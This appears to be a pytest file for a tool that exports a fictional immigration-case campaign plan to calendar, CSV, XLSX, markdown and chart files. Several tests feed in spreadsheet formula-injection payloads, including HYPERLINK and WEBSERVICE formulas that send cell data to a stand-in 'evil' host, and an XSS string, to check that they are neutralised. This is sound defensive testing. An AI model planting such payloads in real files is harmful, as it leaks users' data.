"""Plan exports: calendar, spreadsheets, one-pager and charts. Every person here is fictional."""

import re
import stat
import zipfile
from datetime import date, timedelta

import pytest
from icalendar import Calendar

from ddkit.assess import assess
from ddkit.campaign import chart, exports
from ddkit.campaign.plan import plan
from ddkit.campaign.trackers import Entry, Tracker, letters_progress

ON = date(2026, 12, 1)


@pytest.fixture
def mother_plan(practice_cases):
    case = practice_cases["02_final_order_mother"]  # fictional; check-in 2026-12-10
    return case, plan(case, assess(case, on=ON), ON)


def mode(path):
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize("lang", ["en", "es"])
def test_the_calendar_parses_back_with_the_same_events(mother_plan, tmp_path, lang):
    _case, table = mother_plan
    path = exports.write_plan_ics(table, tmp_path / "plan.ics", lang)
    assert mode(path) == 0o600
    cal = Calendar.from_ical(path.read_bytes())
    events = cal.walk("VEVENT")
    assert len(events) == len(table) + 1  # every task, plus the key date
    got = [(e.decoded("dtstart"), str(e["summary"])) for e in events]
    want = [(d, str(s)) for d, s in zip(table["date"], table["title"], strict=True)]
    assert got[:-1] == want
    assert got[-1][0] == date(2026, 12, 10)
    for event in events:
        assert event.decoded("dtend") == event.decoded("dtstart") + timedelta(days=1)
        alarms = event.walk("VALARM")
        assert len(alarms) == 2 and all(a["action"] == "DISPLAY" for a in alarms)
    assert len({str(e["uid"]) for e in events}) == len(events)


def test_the_calendar_is_the_same_twice_and_names_nobody(mother_plan):
    case, table = mother_plan
    first = exports.plan_calendar(table).to_ical()
    assert first == exports.plan_calendar(table).to_ical()
    text = first.decode()
    assert case.person.name not in text
    assert case.person.a_number not in text


def test_too_late_tasks_are_marked_in_the_calendar(practice_cases):
    case = practice_cases["02_final_order_mother"]
    eve = date(2026, 12, 9)
    table = plan(case, assess(case, on=eve), eve)
    assert (table["status"] == "too_late").any()
    summaries = [str(e["summary"]) for e in exports.plan_calendar(table).walk("VEVENT")]
    assert any(s.startswith("[too late]") for s in summaries)


PAYLOADS = ["=1+1", '=HYPERLINK("https://evil/?d="&A2,"x")', "+1+1", "@SUM(1+1)", "-1+1"]


def test_csv_neutralizes_formulas_typed_into_owner_and_note(mother_plan, tmp_path):
    _case, table = mother_plan
    table = table.copy()
    table.loc[: len(PAYLOADS) - 1, "owner"] = PAYLOADS
    path = exports.write_plan_csv(table, tmp_path / "plan.csv")
    assert mode(path) == 0o600
    text = path.read_text(encoding="utf-8-sig")
    for payload in PAYLOADS:
        assert f'"\'{payload.replace(chr(34), chr(34) * 2)}"' in text
    assert text.splitlines()[0].startswith('"Date"')


def test_xlsx_has_no_live_formulas_or_links(mother_plan, tmp_path):
    _case, table = mother_plan
    table = table.copy()
    table.loc[0, "note"] = '=WEBSERVICE("https://evil/"&B2)'
    table.loc[1, "owner"] = "https://evil/x"
    path = exports.write_plan_xlsx(table, tmp_path / "plan.xlsx", "es")
    assert mode(path) == 0o600
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<hyperlink" not in sheet


def test_the_one_pager_escapes_typed_text_and_names_nobody(mother_plan):
    case, table = mother_plan
    table = table.copy()
    table.loc[0, "owner"] = "<img src=x onerror=alert(1)> | [x](javascript:alert(1))"
    text = exports.plan_markdown(table, "en")
    assert "\\<img" in text and "\\](javascript" in text
    assert re.search(r"(?<!\\)<img", text) is None
    assert case.person.name not in text and case.person.a_number not in text
    assert "Key date: check-in on 2026-12-10" in text
    assert text.count("\n| ") == len(table) + 1


def test_the_one_pager_says_when_nothing_public_is_planned(practice_cases):
    case = practice_cases["03_check_in_worker"]  # no consent yet
    table = plan(case, assess(case, on=ON), ON, lang="es")
    assert "no ha dado su consentimiento" in exports.plan_markdown(table)


@pytest.mark.parametrize("fmt", chart.FORMATS)
def test_the_timeline_chart_is_written_and_not_empty(mother_plan, tmp_path, fmt):
    _case, table = mother_plan
    path = chart.write_timeline(table, tmp_path / f"timeline.{fmt}")
    assert mode(path) == 0o600
    data = path.read_bytes()
    assert len(data) > 10_000
    if fmt == "png":
        assert data.startswith(b"\x89PNG")
    else:
        assert b"<svg" in data[:2000]


def test_the_svg_is_the_same_twice(mother_plan):
    _case, table = mother_plan
    one = chart.figure_bytes(chart.timeline_figure(table), "svg")
    assert one == chart.figure_bytes(chart.timeline_figure(table), "svg")


def test_tracker_charts_are_drawn_with_and_without_data(tmp_path):
    tracker = Tracker(
        "case-1",
        [
            Entry("letter", 2, date(2026, 11, 20), "family_member"),
            Entry("call", 5, date(2026, 11, 20)),
            Entry("call", 8, date(2026, 11, 21)),
            Entry("signature", 40, date(2026, 11, 20)),
        ],
    )
    progress = letters_progress(tracker, {"family_member": 3, "faith_leader": 1})
    figures = [
        chart.letters_figure(progress, "es"),
        chart.counts_figure(tracker.per_day("call"), "calls"),
        chart.counts_figure(tracker.per_day("signature"), "signatures"),
        chart.counts_figure({}, "calls"),
        chart.letters_figure(letters_progress(Tracker("case-2"))),
    ]
    for n, figure in enumerate(figures):
        path = chart.write_figure(figure, tmp_path / f"chart{n}.png")
        assert path.read_bytes().startswith(b"\x89PNG") and path.stat().st_size > 5_000


def test_an_unknown_chart_format_is_refused(mother_plan):
    _case, table = mother_plan
    with pytest.raises(ValueError, match="png, svg"):
        chart.figure_bytes(chart.timeline_figure(table), "gif")


@pytest.mark.parametrize("fmt", ["md", "csv", "xlsx", "ics", "png", "svg"])
def test_plan_bytes_gives_every_format_for_downloads(mother_plan, fmt):
    _case, table = mother_plan
    data = exports.plan_bytes(table, fmt, "es")
    assert len(data) > 100
    if fmt == "xlsx":
        assert data.startswith(b"PK")
    if fmt == "csv":
        assert data.startswith("\ufeff".encode())
